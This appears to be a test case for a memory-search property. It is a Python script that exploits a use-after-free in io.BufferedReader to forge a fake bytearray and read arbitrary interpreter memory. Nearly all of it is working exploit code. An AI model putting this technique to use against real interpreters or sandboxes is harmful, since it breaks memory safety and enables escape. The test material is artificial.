# control: a view of freed memory makes an object out of any address, so the search of the whole memory does search it
# property: S46
# expect: value "a text that no name leads to"
import io
import struct

kept = []


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        kept.append(buffer)
        return len(buffer)

    def readable(self):
        return True


reader = io.BufferedReader(Raw(), 1 << 12)
reader.read(1)
del reader
spray = [[None] * 512 for _ in range(64)]
words = kept[0].cast("B").cast("P")
found = next(at for at in range(len(words) - 1) if words[at] == words[at + 1] == id(None))
text = b"a text that no name leads to"
# What a bytearray of these bytes looks like; a list that lies in the view is given it as an item.
fake = struct.pack("PPPPPPP", 1 << 28, id(bytearray), len(text), len(text), 0, id(text) + bytes.__basicsize__ - 1, 0)
words[found] = id(fake) + bytes.__basicsize__ - 1
memory = next(part[index] for part in spray for index in range(512) if part[index] is not None)
return bytes(memory).decode()
